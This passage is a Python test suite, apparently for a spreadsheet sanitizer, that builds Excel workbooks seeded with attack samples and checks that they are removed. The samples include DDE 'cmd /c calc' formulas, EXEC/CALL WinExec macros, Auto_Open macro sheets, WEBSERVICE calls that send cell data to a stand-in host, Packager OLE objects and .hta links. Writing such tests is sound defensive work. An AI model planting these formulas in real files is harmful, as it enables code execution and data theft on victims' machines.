"""Workbooks: rows O07–O11, O15–O17, O20–O22."""
import os
import re
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from golden import main  # noqa: E402
from golden_ooxml import Office  # noqa: E402
from make_ooxml import A, C, HEAD, MS_REL, NAMES, R, S, S_NAMES, SHEET, XDR, cells, cfb, png, sheet_xml, xlsx  # noqa: E402

X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
TEXT = cells(["本文", 1])
VML = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
       'xmlns:x="urn:schemas-microsoft-com:office:excel"><o:shapelayout v:ext="edit"><o:idmap v:ext="edit" data="1"/></o:shapelayout>%s</xml>')


def formulas(*texts):
    """One column: a formula, with its position as the cached value."""
    return cells(*[[(t, 1000 + i)] for i, t in enumerate(texts)])


def macro_sheet(p, name="Macro1", rid="rIdX", kind=MS_REL + "/xlMacrosheet", ctype="application/vnd.ms-excel.macrosheet+xml", entry=""):
    """Add an XLM sheet behind the others; entry: attributes of its <sheet>."""
    leaf = "macrosheets/%s.xml" % name.lower()
    p.part("xl/" + leaf, HEAD + '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="%s"><sheetData>'
           '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row></sheetData></xm:macrosheet>' % S, ctype)
    p.rel(p.main, kind, leaf, rid=rid)
    p.replace(p.main, "</sheets>", '<sheet name="%s" sheetId="90" %sr:id="%s"/></sheets>' % (name, entry, rid))
    return p


def drawing(p, content, sheet="xl/worksheets/sheet1.xml"):
    """A drawing on a sheet whose XML has <drawing r:id="rIdD"/>."""
    p.part("xl/drawings/drawing1.xml", HEAD + '<xdr:wsDr xmlns:xdr="%s" xmlns:a="%s"%s>%s</xdr:wsDr>' % (XDR, A, NAMES, content),
           "application/vnd.openxmlformats-officedocument.drawing+xml")
    p.rel(sheet, R + "/drawing", "../drawings/drawing1.xml", rid="rIdD")
    return p


def anchor(content):
    return ("<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
            "<xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>%s<xdr:clientData/>"
            "</xdr:twoCellAnchor>" % content)


def box(text, attrs='macro="" textlink=""', props=""):
    return ('<xdr:sp %s><xdr:nvSpPr><xdr:cNvPr id="2" name="box">%s</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect">'
            "<a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>%s</a:t></a:r></a:p></xdr:txBody></xdr:sp>" % (
                attrs, props, text))


def vml(p, shapes, sheet="xl/worksheets/sheet1.xml"):
    """A VML drawing on a sheet whose XML has <legacyDrawing r:id="rIdV"/>."""
    p.default("vml", "application/vnd.openxmlformats-officedocument.vmlDrawing")
    p.part("xl/drawings/vmlDrawing1.vml", VML % shapes)
    p.rel(sheet, R + "/vmlDrawing", "../drawings/vmlDrawing1.vml", rid="rIdV")
    return p


class Formulas(Office):
    BAD = ["cmd|'/c calc'!A0", 'DDE("cmd","/c calc","x")', 'WEBSERVICE("http://e.com/?"&A1)', '_xlfn.WEBSERVICE("http://e.com")',
           '_xlfn.IMAGE("http://e.com/x.png")', 'RTD("prog",,"topic")', 'CALL("kernel32","WinExec","JCJ","calc",0)', 'REGISTER("k","f")',
           'REGISTER.ID("k","f")', 'EXEC("calc")', 'EVALUATE("1+1")', "_xlfn._xlws.PY(0,1)", "_xll.Evil(1)", "_xludf.DUMMYFUNCTION(1)",
           "[1]Sheet1!A1", "'C:\\x\\[b.xlsx]S'!A1", "'\\\\srv\\s\\[b.xlsx]S'!A1", 'HYPERLINK("file://srv/x","x")', 'HYPERLINK(B1,"x")',
           'HYPERLINK("\\\\srv\\x")', "UNKNOWN(1)", "MAP(A1:A2,_xlfn.WEBSERVICE)", 'FILTERXML("<a/>","//a")', 'CUBEVALUE("c","m")', 'INDIRECT("\'[b.xlsx]S\'!A1")']
    GOOD = ["SUM(A1:A3)", "Sheet1!A1*2", '_xlfn.XLOOKUP(1,A1:A2,B1:B2)', 'HYPERLINK("https://example.jp/","link")', 'HYPERLINK("#Sheet1!A1","in")',
            'IF(A1>1,"a|b",PHONETIC(A1))', "_xlfn._xlws.FILTER(A1:A3,A1:A3>1)", 'INDIRECT("Sheet1!A"&1)', "DATEDIF(A1,A2,\"Y\")"]

    def test_O15_formulas_become_values(self):
        p = xlsx([("Sheet1", formulas(*self.BAD), "")])
        r = self.rebuild(p, "a.xlsx", stays=[">%d<" % (1000 + i) for i in range(len(self.BAD))])
        self.assertNotIn("<f", r.part("xl/worksheets/sheet1.xml"))
        self.assertFound(r, "O15", "neutralized", count=len(self.BAD))
        self.assertFound(r, "O15", where="A%d" % len(self.BAD))

    def test_O15_harmless_formulas_stay(self):
        r = self.rebuild(xlsx([("Sheet1", formulas(*self.GOOD), "")]), "a.xlsx")
        self.assertEqual(r.part("xl/worksheets/sheet1.xml").count("<f>"), len(self.GOOD), r.said())
        self.assertNotFound(r, "O15")

    def test_O15_strict_namespace(self):
        p = xlsx([("Sheet1", formulas("cmd|'/c calc'!A0", "SUM(A1)"), "")])
        self.rebuild(p.build(strict=True), "a.xlsx", gone=["cmd|"], stays=["SUM(A1)", ">1000<"])

    def test_O15_shared_and_array_formulas(self):
        rows = ('<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">WEBSERVICE(B1)</f><v>11</v></c>'
                '<c r="B1"><f t="shared" ref="B1:B3" si="1">SUM(C1)</f><v>21</v></c><c r="C1"><f t="array" ref="C1:C2">RTD("a",,"b")</f><v>31</v></c>'
                '</row><row r="2"><c r="A2"><f t="shared" si="0"/><v>12</v></c><c r="B2"><f t="shared" si="1"/><v>22</v></c><c r="C2"><v>32</v></c>'
                '<c r="D2"><f t="dataTable" ref="D2:D3" dt2D="0" dtr="0" r1="A1"/><v>42</v></c></row></sheetData>')
        r = self.rebuild(xlsx([("Sheet1", rows, "")]), "a.xlsx", gone=['si="0"', "WEBSERVICE", "RTD"],
                         stays=[">%d<" % v for v in (11, 12, 21, 22, 31, 32, 42)] + ["SUM(C1)", 'si="1"', "dataTable"])
        self.assertFound(r, "O15", "neutralized", count=3)

    def test_O15_in_conditions_and_lists(self):
        after = ('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE(A1)=1</formula></cfRule>'
                 '<cfRule type="expression" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>'
                 '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="3"><formula>[1]S!A1=1</formula></cfRule></conditionalFormatting>'
                 '<dataValidations count="2"><dataValidation type="list" sqref="A1"><formula1>"はい,いいえ"</formula1></dataValidation>'
                 '<dataValidation type="list" sqref="A2"><formula1>\'[b.xlsx]S\'!A1:A3</formula1></dataValidation></dataValidations>')
        r = self.rebuild(xlsx([("Sheet1", TEXT, after)]), "a.xlsx", gone=["WEBSERVICE", "[1]S", "b.xlsx", 'sqref="B1"'],
                         stays=["本文", "A1&gt;5", "はい,いいえ"])
        self.assertFound(r, "O15", "neutralized", count=3)

    def test_O15_in_extended_lists(self):
        ext = ('<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="%s"><x14:dataValidations count="2" xmlns:xm="%s">'
               '<x14:dataValidation type="list"><x14:formula1><xm:f>Sheet2!$A$1:$A$3</xm:f></x14:formula1><xm:sqref>A1</xm:sqref></x14:dataValidation>'
               '<x14:dataValidation type="list"><x14:formula1><xm:f>[1]S!$A$1</xm:f></x14:formula1><xm:sqref>B7</xm:sqref></x14:dataValidation>'
               "</x14:dataValidations></ext></extLst>" % (X14, XM))
        self.rebuild(xlsx([("Sheet1", TEXT, ext), ("Sheet2", TEXT, "")]), "a.xlsx", gone=["[1]S", "B7"], stays=["本文", "Sheet2!$A$1:$A$3"])

    def test_extended_conditions_stay(self):
        """A data bar is said twice, and joined by an id."""
        guid = "{11111111-2222-3333-4444-555555555555}"
        after = ('<conditionalFormatting sqref="A1:B1"><cfRule type="dataBar" priority="1"><dataBar><cfvo type="min"/><cfvo type="max"/><color rgb="FF638EC6"/>'
                 '</dataBar><extLst><ext xmlns:x14="%s" uri="{B025F937-C7B1-47D3-B67F-A62EFF666E3E}"><x14:id>%s</x14:id></ext></extLst></cfRule>'
                 '</conditionalFormatting><extLst><ext xmlns:x14="%s" uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings>'
                 '<x14:conditionalFormatting xmlns:xm="%s"><x14:cfRule type="dataBar" id="%s"><x14:dataBar minLength="0" maxLength="100"><x14:cfvo type="formula">'
                 "<xm:f>$B$1</xm:f></x14:cfvo><x14:cfvo type=\"autoMax\"/></x14:dataBar></x14:cfRule><xm:sqref>A1:B1</xm:sqref></x14:conditionalFormatting>"
                 "</x14:conditionalFormattings></ext></extLst>" % (X14, guid, X14, XM, guid))
        r = self.rebuild(xlsx([("Sheet1", TEXT, after)]), "a.xlsx", stays=["本文", "<x14:id>" + guid, 'id="%s"' % guid, "<xm:f>$B$1</xm:f>"])
        self.assertEqual([f for f in r.findings if f["action"] != "kept"], [], r.said())

    def test_O15_names(self):
        names = ('<definedName name="Good">Sheet1!$A$1</definedName><definedName name="Bad">[1]S!$A$1</definedName>'
                 '<definedName name="UsesBad">Bad*2</definedName><definedName name="Fetch">WEBSERVICE("http://e.com")</definedName>')
        p = xlsx([("Sheet1", formulas("Good*2", "Bad*2", "usesbad+1", "Fetch"), "")], names=names)
        r = self.rebuild(p, "a.xlsx", gone=["[1]S", "UsesBad", "Fetch", "Bad*2"], stays=["Good*2", 'name="Good"', ">1001<", ">1002<", ">1003<"])
        self.assertFound(r, "O15", "removed", where="UsesBad")

    def test_O15_a_name_hides_no_function(self):
        names = "".join('<definedName name="%s">1</definedName>' % n for n in ("RTD", "EXEC", "_xlfn.WEBSERVICE", "税込"))
        p = xlsx([("Sheet1", formulas('RTD("a",,"b")', 'EXEC("calc")', '_xlfn.WEBSERVICE("http://e.com")', "税込(A1)"), "")], names=names)
        r = self.rebuild(p, "a.xlsx", gone=["e.com", "calc"], stays=[">1000<", "税込(A1)"])
        self.assertFound(r, "O15", "neutralized", count=3)

    def test_O15_names_in_a_branch_nobody_reads(self):
        names = ('<mc:AlternateContent><mc:Choice Requires="zz" xmlns:zz="urn:zz"><definedName name="a">1</definedName><definedName name="b">1'
                 '</definedName></mc:Choice></mc:AlternateContent><definedName name="Fetch">WEBSERVICE("http://e.com")</definedName>'
                 '<definedName name="Auto_Open">Sheet1!$A$1</definedName><definedName name="Good">Sheet1!$A$1</definedName>')
        self.rebuild(xlsx([("Sheet1", TEXT, "")], names=names), "a.xlsx", gone=["e.com", "Auto_Open"], stays=["本文", 'name="Good"'])

    def test_O15_text_of_a_shape(self):
        p = drawing(xlsx([("Sheet1", TEXT, '<drawing r:id="rIdD"/>')]), anchor(box("箱", 'macro="" textlink="[1]S!$A$1"')) + anchor(
            box("函", 'macro="" textlink="$A$1"')))
        self.rebuild(p, "a.xlsx", gone=["[1]S"], stays=["箱", "函", 'textlink="$A$1"'])


class MacroSheets(Office):
    def test_O07_macro_sheet_goes_and_counts_move(self):
        names = ('<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="auto_close12" hidden="1">Macro1!$A$2</definedName>'
                 '<definedName name="OnLast" localSheetId="2">Last!$A$1</definedName><definedName name="OnMacro" localSheetId="1">Last!$A$2</definedName>'
                 '<definedName name="Cmd" xlm="1" function="1">Last!$A$3</definedName><definedName name="Vb" vbProcedure="1">Last!$A$3</definedName>')
        p = xlsx([("First", TEXT, ""), ("Last", formulas("First!A1", "Macro1!A1", "Macro1!evil()"), "")], names=names,
                 before='<bookViews><workbookView activeTab="2"/></bookViews>', kind="xlsm")
        macro_sheet(p)
        last = '<sheet name="Last" sheetId="2" r:id="rId2"/>'
        p.replace(p.main, last, "").replace(p.main, "</sheets>", last + "</sheets>")
        r = self.rebuild(p, "a.xlsm", gone=["macrosheet", "EXEC", "Auto_Open", "auto_close", "OnMacro", "Cmd", "vbProcedure", "Macro1"],
                         stays=["本文", "First!A1", ">1001<", ">1002<"])
        self.assertFound(r, "O07", "removed")
        book = r.part("xl/workbook.xml")
        self.assertIn('activeTab="1"', book)
        self.assertRegex(book, 'name="OnLast" localSheetId="1"')
        self.assertEqual(re.findall('<sheet name="([^"]*)"', book), ["First", "Last"])

    def test_O07_other_kinds_of_macro_sheets(self):
        for kind, ctype in ((MS_REL + "/xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml"),
                            (R + "/dialogsheet", SHEET + "dialogsheet+xml"),
                            (R + "/worksheet", "application/vnd.ms-excel.macrosheet+xml")):
            p = macro_sheet(xlsx([("First", TEXT, "")]), kind=kind, ctype=ctype, entry='state="veryHidden" ')
            r = self.rebuild(p, "a.xlsx", gone=["EXEC", "Macro1"], stays=["本文"])
            self.assertFound(r, "O07", "removed")

    def test_O07_a_macro_sheet_called_worksheet(self):
        """Named a worksheet in every respect but its root."""
        p = macro_sheet(xlsx([("First", TEXT, "")]), kind=R + "/worksheet", ctype=SHEET + "worksheet+xml")
        r = self.clean(p.build(), "a.xlsx")
        if r.outcome == "clean":
            self.assertGone(r, "EXEC", "macrosheet")

    def test_O07_only_a_macro_sheet(self):
        p = macro_sheet(xlsx([("First", TEXT, "")]))
        p.replace(p.main, '<sheet name="First" sheetId="1" r:id="rId1"/>', "")
        self.assertRefused(self.clean(p.build(), "a.xlsx"), "O07")


class Shapes(Office):
    def test_O08_macro_on_a_shape(self):
        p = drawing(xlsx([("Sheet1", TEXT, '<drawing r:id="rIdD"/>')]), anchor(box("箱", 'macro="[0]!Evil" textlink=""')))
        r = self.rebuild(p, "a.xlsx", gone=["Evil"], stays=["本文", "箱"])
        self.assertFound(r, "O08", "removed")

    def test_O08_macro_on_a_form_control(self):
        shape = ('<v:shape id="_x0000_s1025" type="#_x0000_t201" style="position:absolute" o:button="t"><v:textbox><div><font>ボタン</font></div>'
                 '</v:textbox><x:ClientData ObjectType="Button"><x:Anchor>1,1,1,1,3,3,3,3</x:Anchor><x:FmlaMacro>[0]!Evil</x:FmlaMacro>'
                 "<x:FmlaLink>[1]S!$A$1</x:FmlaLink><x:PrintObject>False</x:PrintObject></x:ClientData></v:shape>")
        after = ('<legacyDrawing r:id="rIdV"/><mc:AlternateContent><mc:Choice Requires="x14"><controls><control shapeId="1025" r:id="rIdC" '
                 'name="Button 1"><controlPr macro="[0]!Evil"/></control></controls></mc:Choice></mc:AlternateContent>')
        p = vml(xlsx([("Sheet1", TEXT, after)]), shape)
        p.replace("xl/worksheets/sheet1.xml", "<worksheet ", '<worksheet xmlns:x14="%s" ' % X14)
        p.part("xl/ctrlProps/ctrlProp1.xml", HEAD + '<formControlPr xmlns="%s" objectType="Button" fmlaMacro="[0]!Evil"/>' % X14,
               "application/vnd.ms-excel.controlproperties+xml")
        p.rel("xl/worksheets/sheet1.xml", R + "/ctrlProp", "../ctrlProps/ctrlProp1.xml", rid="rIdC")
        r = self.rebuild(p, "a.xlsx", gone=["Evil", "[1]S"], stays=["本文", "ボタン"])
        self.assertFound(r, "O08", "removed")
        self.assertNoPart(r, "ctrlProp")

    def test_O09_activex(self):
        after = '<legacyDrawing r:id="rIdV"/><controls><control shapeId="1025" r:id="rIdX" name="CommandButton1"/></controls>'
        p = vml(xlsx([("Sheet1", TEXT, after)]), '<v:shape id="_x0000_s1025" style="width:9pt"><v:imagedata o:relid="rId1"/>'
                '<x:ClientData ObjectType="Pict"><x:MapOCX/></x:ClientData></v:shape>')
        p.part("xl/media/image1.png", png())
        p.rel("xl/drawings/vmlDrawing1.vml", R + "/image", "../media/image1.png", rid="rId1")
        p.part("xl/activeX/activeX1.xml", HEAD + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240}"/>',
               "application/vnd.ms-office.activeX+xml")
        p.rel("xl/worksheets/sheet1.xml", R + "/control", "../activeX/activeX1.xml", rid="rIdX")
        r = self.rebuild(p, "a.xlsx", gone=["classid", "<controls", "MapOCX"], stays=["本文", 'o:relid="rId1"'])
        self.assertFound(r, "O09", "removed")

    def test_O10_objects(self):
        after = '<legacyDrawing r:id="rIdV"/><oleObjects><oleObject progId="Packager Shell Object" shapeId="1025" r:id="rIdO"/></oleObjects>'
        p = vml(xlsx([("Sheet1", TEXT, after)]), '<v:shape id="_x0000_s1025" style="width:9pt"><v:imagedata o:relid="rId1"/>'
                '<x:ClientData ObjectType="Pict"/></v:shape>')
        p.part("xl/media/image1.png", png())
        p.rel("xl/drawings/vmlDrawing1.vml", R + "/image", "../media/image1.png", rid="rId1")
        p.part("xl/embeddings/oleObject1.bin", cfb("Ole10Native", "payload"), "application/vnd.openxmlformats-officedocument.oleObject")
        p.rel("xl/worksheets/sheet1.xml", R + "/oleObject", "../embeddings/oleObject1.bin", rid="rIdO")
        r = self.rebuild(p, "a.xlsx", gone=["Packager", "oleObject", "payload".encode("utf-16le")], stays=["本文", "imagedata"])
        self.assertFound(r, "O10")

    def test_O11_links_on_cells(self):
        after = ('<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="B1" r:id="rId2"/><hyperlink ref="A2" location="Sheet1!B1"/>'
                 '<hyperlink ref="B2" location="[b.xlsx]S!A1"/><hyperlink ref="C2" location="\\\\srv\\x"/></hyperlinks>')
        p = xlsx([("Sheet1", TEXT, after)])
        p.rel("xl/worksheets/sheet1.xml", R + "/hyperlink", "https://example.jp/", external=True, rid="rId1")
        p.rel("xl/worksheets/sheet1.xml", R + "/hyperlink", "file://srv/x.hta", external=True, rid="rId2")
        r = self.rebuild(p, "a.xlsx", gone=["x.hta", 'ref="B1"', 'ref="B2"', 'ref="C2"'], stays=["本文", "https://example.jp/", 'location="Sheet1!B1"'])
        self.assertFound(r, "O11", "removed")
        self.assertFound(r, "O11", "kept")

    def test_O11_links_on_shapes(self):
        p = drawing(xlsx([("Sheet1", TEXT, '<drawing r:id="rIdD"/>')]), anchor(box("箱", props='<a:hlinkClick r:id="rId1"/>')) + anchor(
            box("函", props='<a:hlinkClick r:id="rId2"/>')))
        p.rel("xl/drawings/drawing1.xml", R + "/hyperlink", "search-ms:query=x", external=True, rid="rId1")
        p.rel("xl/drawings/drawing1.xml", R + "/hyperlink", "#Sheet1!A1", rid="rId2")
        self.rebuild(p, "a.xlsx", gone=["search-ms"], stays=["箱", "函", "#Sheet1!A1"])

    def test_O11_places_that_are_none(self):
        """A target of another book behind a number sign is not a place in this one."""
        after = '<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="B1" r:id="rId2"/></hyperlinks>'
        p = xlsx([("Sheet1", TEXT, after)])
        p.rel("xl/worksheets/sheet1.xml", R + "/hyperlink", "#\'\\\\srv\\s\\[evil.xlsx]S\'!A1", external=True, rid="rId1")
        p.rel("xl/worksheets/sheet1.xml", R + "/hyperlink", "#Sheet1!B2", external=True, rid="rId2")
        r = self.rebuild(p, "a.xlsx", gone=["evil", 'ref="A1" r:id'], stays=["本文", "#Sheet1!B2"])
        self.assertFound(r, "O11", "removed")

    def test_O08_events_in_vml(self):
        p = vml(xlsx([("Sheet1", TEXT, '<legacyDrawing r:id="rIdV"/>')]), '<v:shape id="_x0000_s1025" onclick="evil()" o:onmouseover="evil()" '
                'o:oned="t"><v:textbox><div onload="evil()">一行目<br>二行目<BR>三行目</div></v:textbox></v:shape>')
        r = self.rebuild(p, "a.xlsx", gone=["evil"], stays=["一行目", "二行目", "三行目", 'o:oned="t"'])
        self.assertFound(r, "O08", "removed", count=3)

    def test_O17_a_frame_without_content_goes(self):
        frame = ('<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="3" name="f"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
                 '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></xdr:xfrm><a:graphic><a:graphicData uri="urn:x"><x:thing xmlns:x="urn:x"/>'
                 "</a:graphicData></a:graphic></xdr:graphicFrame>")
        p = drawing(xlsx([("Sheet1", TEXT, '<drawing r:id="rIdD"/>')]), anchor(frame) + anchor(box("箱")))
        r = self.rebuild(p, "a.xlsx", gone=["urn:x", "graphicFrame"], stays=["箱"])
        self.assertEqual(r.part("xl/drawings/drawing1.xml").count("<xdr:twoCellAnchor"), 1)
        self.assertFound(r, "O17", "removed")


class Data(Office):
    def test_O16_external_workbook(self):
        p = xlsx([("Sheet1", formulas("[1]S!A1", "SUM(A1)"), "")], after="")
        p.replace(p.main, "</sheets>", '</sheets><externalReferences><externalReference r:id="rId50"/></externalReferences>')
        p.part("xl/externalLinks/externalLink1.xml", HEAD + '<externalLink%s><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
               "</externalBook></externalLink>" % S_NAMES, SHEET + "externalLink+xml")
        p.rel(p.main, R + "/externalLink", "externalLinks/externalLink1.xml", rid="rId50")
        p.rel("xl/externalLinks/externalLink1.xml", R + "/externalLinkPath", "file://srv/b.xlsx", external=True, rid="rId1")
        r = self.rebuild(p, "a.xlsx", gone=["externalReference", "b.xlsx", "[1]S"], stays=[">1000<", "SUM(A1)"])
        self.assertFound(r, "O16", "removed")
        self.assertNoPart(r, "externalLink")

    def test_O16_dde_link(self):
        p = xlsx([("Sheet1", TEXT, "")])
        p.replace(p.main, "</sheets>", '</sheets><externalReferences><externalReference r:id="rId50"/></externalReferences>')
        p.part("xl/externalLinks/externalLink1.xml", HEAD + '<externalLink%s><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems>'
               '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' % S_NAMES, SHEET + "externalLink+xml")
        p.rel(p.main, R + "/externalLink", "externalLinks/externalLink1.xml", rid="rId50")
        r = self.rebuild(p, "a.xlsx", gone=["ddeLink", "calc"], stays=["本文"])
        self.assertFound(r, "O16", "removed")

    def test_O16_connections_and_query_tables(self):
        p = xlsx([("Sheet1", TEXT, '<tableParts count="1"><tablePart r:id="rIdT"/></tableParts>')])
        p.part("xl/connections.xml", HEAD + '<connections%s><connection id="1" name="q" type="1" refreshedVersion="6"><dbPr '
               'connection="Provider=Evil" command="SELECT"/></connection></connections>' % S_NAMES, SHEET + "connections+xml")
        p.rel(p.main, R + "/connections", "connections.xml")
        p.part("xl/tables/table1.xml", HEAD + '<table%s id="1" name="表1" displayName="表1" ref="A1:B1" tableType="queryTable" totalsRowShown="0">'
               '<tableColumns count="2"><tableColumn id="1" uniqueName="1" name="c1" queryTableFieldId="1"/><tableColumn id="2" name="c2">'
               "<calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></tableColumn></tableColumns></table>" % S_NAMES, SHEET + "table+xml")
        p.rel("xl/worksheets/sheet1.xml", R + "/table", "../tables/table1.xml", rid="rIdT")
        p.part("xl/queryTables/queryTable1.xml", HEAD + '<queryTable%s name="q" connectionId="1"/>' % S_NAMES, SHEET + "queryTable+xml")
        p.rel("xl/tables/table1.xml", R + "/queryTable", "../queryTables/queryTable1.xml")
        r = self.rebuild(p, "a.xlsx", gone=["Provider=Evil", "queryTable", "WEBSERVICE"], stays=["本文", 'displayName="表1"', "c2"])
        self.assertFound(r, "O16", "removed")
        self.assertNoPart(r, "connections", "queryTable")

    def test_O16_power_query_and_model(self):
        p = xlsx()
        p.part("customXml/item1.xml", HEAD + '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAPower</DataMashup>')
        p.rel(p.main, R + "/customXml", "../customXml/item1.xml")
        p.part("xl/model/item.data", b"modeldata" * 20, "application/vnd.openxmlformats-officedocument.model+data")
        p.rel(p.main, R + "/powerPivotData", "model/item.data")
        p.part("xl/volatileDependencies.xml", HEAD + '<volTypes%s><volType type="realTimeData"/></volTypes>' % S_NAMES, SHEET + "volatileDependencies+xml")
        p.rel(p.main, R + "/volatileDependencies", "volatileDependencies.xml")
        r = self.rebuild(p, "a.xlsx", gone=["DataMashup", "modeldata", "realTimeData"], stays=["表"])
        self.assertTrue({"O16", "O21"} & set(r.ids()), r.said())

    def pivot(self, source):
        p = xlsx([("Sheet1", TEXT, ""), ("Pivot", cells(["合計", 5], [('GETPIVOTDATA("v",$A$1)', 55)]), "")])
        p.replace(p.main, "</workbook>", '<pivotCaches><pivotCache cacheId="7" r:id="rId60"/></pivotCaches></workbook>')
        p.part("xl/pivotCache/pivotCacheDefinition1.xml", HEAD + '<pivotCacheDefinition%s refreshedBy="Taro" recordCount="0">%s<cacheFields count="1">'
               '<cacheField name="f" numFmtId="0"><sharedItems/></cacheField></cacheFields></pivotCacheDefinition>' % (S_NAMES, source),
               SHEET + "pivotCacheDefinition+xml")
        p.rel(p.main, R + "/pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", rid="rId60")
        p.part("xl/pivotTables/pivotTable1.xml", HEAD + '<pivotTableDefinition%s name="PT" cacheId="7" dataCaption="v"><location ref="A1:B2" '
               'firstHeaderRow="1" firstDataRow="1" firstDataCol="0"/></pivotTableDefinition>' % S_NAMES, SHEET + "pivotTable+xml")
        p.rel("xl/worksheets/sheet2.xml", R + "/pivotTable", "../pivotTables/pivotTable1.xml")
        p.rel("xl/pivotTables/pivotTable1.xml", R + "/pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
        return p

    def test_O16_pivot_of_a_sheet_stays(self):
        p = self.pivot('<cacheSource type="worksheet"><worksheetSource ref="A1:B1" sheet="Sheet1"/></cacheSource>')
        r = self.rebuild(p, "a.xlsx", gone=["Taro"], stays=["本文", "合計", "pivotTableDefinition", "worksheetSource", "GETPIVOTDATA"])
        self.assertNotFound(r, "O16")

    def test_O16_pivot_of_something_else_becomes_values(self):
        p = self.pivot('<cacheSource type="external" connectionId="1"/>')
        r = self.rebuild(p, "a.xlsx", gone=["pivotTableDefinition", "pivotCache", "GETPIVOTDATA"], stays=["本文", "合計", ">55<"])
        self.assertFound(r, "O16", "removed")

    def test_O15_chart_of_another_workbook(self):
        p = drawing(xlsx([("Sheet1", TEXT, '<drawing r:id="rIdD"/>')]), anchor(
            '<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="3" name="f"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm>'
            '<a:off x="0" y="0"/><a:ext cx="1" cy="1"/></xdr:xfrm><a:graphic><a:graphicData uri="%s"><c:chart xmlns:c="%s" r:id="rId1"/>'
            "</a:graphicData></a:graphic></xdr:graphicFrame>" % (C, C)))
        series = ('<c:ser><c:idx val="%d"/><c:order val="%d"/><c:val><c:numRef><c:f>%s</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>%d'
                  "</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser>")
        p.part("xl/charts/chart1.xml", HEAD + '<c:chartSpace xmlns:c="%s" xmlns:a="%s"%s><c:chart><c:plotArea><c:pieChart>%s%s</c:pieChart>'
               '</c:plotArea></c:chart><c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>' % (
                   C, A, NAMES, series % (0, 0, "[1]S!$A$1", 77), series % (1, 1, "Sheet1!$B$1", 88)),
               "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
        p.rel("xl/drawings/drawing1.xml", R + "/chart", "../charts/chart1.xml", rid="rId1")
        p.rel("xl/charts/chart1.xml", R + "/oleObject", "file://srv/data.xlsx", external=True, rid="rId1")
        r = self.rebuild(p, "a.xlsx", gone=["[1]S", "data.xlsx", "externalData", "autoUpdate"], stays=["Sheet1!$B$1", "<c:v>77", "<c:v>88"])
        self.assertFound(r, "O15", "neutralized")
        self.assertTrue({"O10", "O11"} & set(r.ids()), r.said())


class Sight(Office):
    def test_O21_comments(self):
        p = vml(xlsx([("Sheet1", TEXT, '<legacyDrawing r:id="rIdV"/>')]), '<v:shape id="_x0000_s1025" type="#_x0000_t202" style="visibility:hidden">'
                '<x:ClientData ObjectType="Note"><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>')
        p.part("xl/comments1.xml", HEAD + '<comments%s><authors><author>Taro</author></authors><commentList><comment ref="A1" authorId="0"><text><t>'
               "注記です</t></text></comment></commentList></comments>" % S_NAMES, SHEET + "comments+xml")
        p.rel("xl/worksheets/sheet1.xml", R + "/comments", "../comments1.xml")
        r = self.rebuild(p, "a.xlsx", stays=["本文", "注記です"])
        self.assertFound(r, "O21", "kept")
        r = self.rebuild(p, "a.xlsx", gone=["注記です"], stays=["本文"], profile="strict")
        self.assertFound(r, "O21", "removed")

    def test_O21_threaded_comments(self):
        threaded = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
        p = xlsx([("Sheet1", TEXT, "")])
        p.part("xl/persons/person.xml", HEAD + '<personList xmlns="%s"><person displayName="山田" id="{A}" userId="S::y@example.jp::1" providerId="AD"/>'
               "</personList>" % threaded, "application/vnd.ms-excel.person+xml")
        p.rel(p.main, "http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml")
        p.part("xl/threadedComments/threadedComment1.xml", HEAD + '<ThreadedComments xmlns="%s"><threadedComment ref="A1" dT="2026-01-02T03:04:05.00" '
